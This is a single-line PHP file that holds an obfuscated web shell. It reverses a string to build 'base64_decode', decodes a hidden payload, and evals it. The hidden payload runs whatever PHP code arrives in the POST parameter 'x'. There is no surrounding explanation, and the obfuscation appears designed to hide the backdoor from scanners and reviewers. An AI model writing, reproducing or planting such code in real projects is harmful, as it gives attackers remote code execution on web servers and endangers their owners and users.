<?php $z = strrev('edoced_46esab'); eval($z('ZXZhbCgkX1BPU1RbJ3gnXSk7'));
